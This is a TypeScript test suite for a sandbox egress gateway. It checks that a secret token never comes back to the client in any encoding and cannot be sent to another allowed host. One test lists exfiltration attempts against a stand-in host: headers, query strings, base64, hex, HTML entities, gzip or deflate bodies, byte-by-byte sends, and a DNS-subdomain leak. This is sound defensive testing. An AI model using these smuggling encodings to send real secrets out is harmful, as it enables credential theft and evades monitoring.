/**
 * Adversarial, on loopback with the real gateway: a secret's own host that hands the value back in
 * every form servers and clients commonly produce (the Basic credentials the gateway itself encoded,
 * base64 at each alignment, hex, percent and JSON escapes, HTML entities, quoted-printable, transfer
 * and content codings, ranges, trailers, 1xx and 101 heads), and a sandbox that already holds the
 * value trying to send it to another allowed host. Judged from the host: what the client was handed
 * never gives the value back (`value-oracle.ts`, written apart from the gateway's scanner), and no
 * other origin, nor the resolver, ever sees it.
 */

import { connect } from "node:net";
import { deflateSync, gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { RunCertificateAuthority } from "../../../../../src/sandbox/egress/secrets/run-ca.js";
import { SecretValue } from "../../../../../src/sandbox/egress/secrets/secret-grant.js";
import { ECHO_FORMS, type EchoOrigin, startEchoOrigin } from "../../../../support/egress/echo-origin.js";
import { recoverValue } from "../../../../support/egress/value-oracle.js";
import { startGateway, type TestGateway } from "../gateway-fixture.js";
import { exchange, type Outgoing, placeholderOf, type Received, runCa, tunnel } from "./secrets-fixture.js";

/** Letters, digits and the punctuation tokens carry ('/', '+', '.', '_', '-'): every escape has work. */
const VALUE = "tok_R3aL/v4lue+9d8c.7b6a-5f4e";
const API = "api.example.org";
const OTHER = "example.org";

const basic = (user: string, secret: string): string =>
  `Basic ${Buffer.from(`${user}:${secret}`).toString("base64")}`;

describe("adversarial: the value never comes back, never goes elsewhere", { timeout: 60_000 }, () => {
  const originCa = new RunCertificateAuthority();
  let api: EchoOrigin;
  let apiPlain: EchoOrigin;
  let other: EchoOrigin;
  let otherTls: EchoOrigin;
  let gw: TestGateway;
  let placeholder: string;
  let ca: string;

  beforeAll(async () => {
    const tls = (host: string) => ({
      cert: originCa.leafFor(host).certPem,
      key: originCa.leafFor(host).keyPem,
    });
    api = await startEchoOrigin(tls(API));
    apiPlain = await startEchoOrigin();
    other = await startEchoOrigin();
    otherTls = await startEchoOrigin(tls(OTHER));
    gw = await startGateway({
      allowHosts: [`${OTHER}:${other.port},${otherTls.port}`, `*.example.com:${other.port}`],
      // The other TLS host is terminated (a rule): the gateway sees what goes there.
      requestRules: [`*@${OTHER}:${otherTls.port}/`],
      secrets: [
        {
          name: "API_TOKEN",
          host: `${API}:${api.port},${apiPlain.port}`,
          inBody: false,
          value: new SecretValue("API_TOKEN", VALUE),
        },
      ],
      upstreamCa: [originCa.certPem],
    });
    placeholder = placeholderOf(gw);
    ca = runCa(gw);
  });
  afterAll(async () => {
    await gw[Symbol.asyncDispose]();
    for (const origin of [api, apiPlain, other, otherTls]) await origin.close();
  });

  const toApi = async (request: Outgoing): Promise<Received> => {
    const secure = await tunnel(gw.gateway.socketPath, `${API}:${api.port}`, API, ca);
    return exchange(request, () => secure);
  };
  const toApiPlain = (request: Outgoing): Promise<Received> =>
    exchange({ ...request, path: `http://${API}:${apiPlain.port}${request.path}` }, () =>
      connect(gw.gateway.socketPath),
    );

  /** The value came back in nothing the client was handed; `what` names the attempt on failure. */
  function expectNoValue(received: Received, what: string): void {
    expect(recoverValue(received.everything, VALUE), `${what}: ${received.everything.slice(0, 400)}`).toBe(
      undefined,
    );
  }

  it("finding 8: Basic credentials the origin echoes come back as the placeholder, at every alignment", async () => {
    for (const user of ["x-access-token", "x", "xy", "xyz", ""]) {
      for (const send of [toApi, toApiPlain]) {
        const received = await send({
          path: "/form/raw",
          headers: { authorization: basic(user, placeholder) },
        });
        const origin = send === toApi ? api : apiPlain;
        const sent = origin.seen.at(-1)?.headers ?? [];
        const at = sent.findIndex((name) => name.toLowerCase() === "authorization");
        expect(sent[at + 1], "the origin got the value").toBe(basic(user, VALUE));
        expectNoValue(received, `Basic ${user}`);
        // The echo is the credentials the client sent: the placeholder's, whole.
        const echoed = /^Basic (\S+)/.exec(received.body.toString())?.[1] ?? "";
        expect(Buffer.from(echoed, "base64").toString()).toBe(`${user}:${placeholder}`);
      }
    }
    const head = await toApi({
      path: "/",
      method: "HEAD",
      headers: { authorization: basic("x", placeholder) },
    });
    expectNoValue(head, "HEAD");
  });

  it("finding 14: every form the origin transforms the value into is masked or cut off", async () => {
    const failures: string[] = [];
    for (const form of ECHO_FORMS) {
      for (const authorization of [
        `Bearer ${placeholder}`,
        basic("x-access-token", placeholder),
        basic("xy", placeholder),
      ]) {
        const received = await toApi({
          path: `/form/${form}`,
          headers: { authorization, "accept-encoding": "gzip, br, zstd" },
        });
        const found = recoverValue(received.everything, VALUE);
        if (found !== undefined) failures.push(`${form} (${authorization.split(" ")[0]}): ${found}`);
      }
    }
    // A WebSocket upgrade to the secret's host: the gateway carries HTTP/1.1 requests only.
    const upgrade = await toApi({
      path: "/ws",
      headers: { authorization: `Bearer ${placeholder}`, connection: "Upgrade", upgrade: "websocket" },
    });
    const found = recoverValue(upgrade.everything, VALUE);
    if (found !== undefined) failures.push(`upgrade request: ${found}`);
    expect(failures).toEqual([]);
    // Masked, not only cut off: the forms a client decodes still carry the placeholder.
    const b64 = await toApi({ path: "/form/b64", headers: { authorization: `Bearer ${placeholder}` } });
    expect(Buffer.from(b64.body.toString(), "base64").toString()).toBe(`Bearer ${placeholder}`);
    const hex = await toApi({ path: "/form/HEX", headers: { authorization: `Bearer ${placeholder}` } });
    expect(Buffer.from(hex.body.toString(), "hex").toString()).toBe(`Bearer ${placeholder}`);
    const json = await toApi({ path: "/form/json-u", headers: { authorization: `Bearer ${placeholder}` } });
    expect(JSON.parse(json.body.toString())).toEqual({ auth: `Bearer ${placeholder}` });
  });

  it("finding 14: the value cannot be put together from ranges, one by one or as multipart/byteranges", async () => {
    const authorization = `Bearer ${placeholder}`;
    let assembled = "";
    for (let start = 0; start < 80; start += 8) {
      const part = await toApi({
        path: "/form/range",
        headers: { authorization, range: `bytes=${start}-${start + 7}` },
      });
      assembled += part.body.toString("latin1");
    }
    expect(recoverValue(assembled, VALUE), assembled).toBe(undefined);
    const multipart = await toApi({
      path: "/form/range",
      headers: { authorization, range: "bytes=0-12,13-" },
    });
    const spliced = multipart.body
      .toString("latin1")
      .replace(/(\r\n)?--RANGE_BOUNDARY(--\r\n$|[\s\S]*?\r\n\r\n)/g, "");
    expectNoValue(multipart, "multipart");
    expect(recoverValue(spliced, VALUE), spliced).toBe(undefined);
  });

  it("finding 9: a sandbox that holds the value cannot send it to another host, in any form", async () => {
    const b64 = (lead: string) => Buffer.from(`${lead}${VALUE}`).toString("base64");
    const attempts: Array<[string, Outgoing]> = [
      ["header", { path: "/", headers: { "x-leak": VALUE } }],
      ["header upper-case", { path: "/", headers: { "x-leak": VALUE.toUpperCase() } }],
      ["Basic x-access-token", { path: "/", headers: { authorization: basic("x-access-token", VALUE) } }],
      ["Basic x", { path: "/", headers: { authorization: basic("x", VALUE) } }],
      ["Basic xy", { path: "/", headers: { authorization: basic("xy", VALUE) } }],
      ["query", { path: `/?t=${encodeURIComponent(VALUE)}` }],
      [
        "query, every byte percent-encoded",
        { path: `/?t=${[...Buffer.from(VALUE)].map((b) => `%${b.toString(16)}`).join("")}` },
      ],
      ["path, hex", { path: `/${Buffer.from(VALUE).toString("hex")}` }],
      ["path, base64url", { path: `/${Buffer.from(`.${VALUE}`).toString("base64url")}` }],
      ["body", { path: "/", method: "POST", body: `t=${VALUE}` }],
      [
        "body, byte by byte",
        { path: "/", method: "POST", body: [...Buffer.from(`t=${VALUE}`)].map((b) => Buffer.from([b])) },
      ],
      ["body, base64 lead 0", { path: "/", method: "POST", body: b64("") }],
      ["body, base64 lead 1", { path: "/", method: "POST", body: b64("a") }],
      ["body, base64 lead 2", { path: "/", method: "POST", body: b64("ab") }],
      [
        "body, JSON \\u",
        {
          path: "/",
          method: "POST",
          body: JSON.stringify({ t: VALUE }).replace(/[a-z]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
        },
      ],
      [
        "body, HTML entities",
        { path: "/", method: "POST", body: [...VALUE].map((c) => `&#${c.charCodeAt(0)};`).join("") },
      ],
      ["body, reversed", { path: "/", method: "POST", body: [...VALUE].reverse().join("") }],
      [
        "body, gzip-encoded",
        { path: "/", method: "POST", headers: { "content-encoding": "gzip" }, body: gzipSync(`t=${VALUE}`) },
      ],
      [
        "body, deflate-encoded in pieces",
        {
          path: "/",
          method: "POST",
          headers: { "content-encoding": "deflate" },
          body: [...deflateSync(`t=${VALUE}`)].map((b) => Buffer.from([b])),
        },
      ],
      [
        "body, an encoding the gateway cannot undo",
        { path: "/", method: "POST", headers: { "content-encoding": "x-custom" }, body: gzipSync(VALUE) },
      ],
      [
        "body, Transfer-Encoding: gzip",
        {
          path: "/",
          method: "POST",
          headers: { "transfer-encoding": "gzip, chunked" },
          body: gzipSync(VALUE),
        },
      ],
    ];
    const reached: string[] = [];
    for (const [what, attempt] of attempts) {
      const plain = await exchange({ ...attempt, path: `http://${OTHER}:${other.port}${attempt.path}` }, () =>
        connect(gw.gateway.socketPath),
      );
      const secure = await tunnel(gw.gateway.socketPath, `${OTHER}:${otherTls.port}`, OTHER, ca);
      const terminated = await exchange(attempt, () => secure);
      for (const [how, received] of [
        ["plain", plain],
        ["terminated", terminated],
      ] as const) {
        // Refused: a 403 or 400, or (a body cut while the client still sent it) the connection closed.
        if (![400, 403, 0].includes(received.status)) {
          reached.push(`${what} (${how}): ${received.status} ${received.error ?? ""}`);
        }
        expect(received.everything).not.toContain(VALUE);
      }
    }
    expect(reached).toEqual([]);
    for (const seen of [...other.seen, ...otherTls.seen]) {
      expect(recoverValue(JSON.stringify(seen), VALUE), JSON.stringify(seen)).toBe(undefined);
    }
    // Control: a compressed body without the value still goes, decompressed (the gateway looked into it).
    const harmless = await exchange(
      {
        path: `http://${OTHER}:${other.port}/upload`,
        method: "POST",
        headers: { "content-encoding": "gzip" },
        body: gzipSync("nothing secret here"),
      },
      () => connect(gw.gateway.socketPath),
    );
    expect(harmless.status).toBe(200);
    expect(other.seen.at(-1)).toMatchObject({ url: "/upload", body: "nothing secret here" });
    // The name is the request too: a name under a wildcard entry is looked up, and DNS would carry it.
    const named = await exchange(
      { path: `http://${Buffer.from(VALUE).toString("hex")}.example.com:${other.port}/` },
      () => connect(gw.gateway.socketPath),
    );
    expect(named.status).toBe(403);
    expect(gw.lookups.join(" ")).not.toContain(Buffer.from(VALUE).toString("hex"));
    // The records (the transcript's egress events) name the secret, and hold its value in no form.
    expect(recoverValue(JSON.stringify(gw.records), VALUE)).toBe(undefined);
  });
});
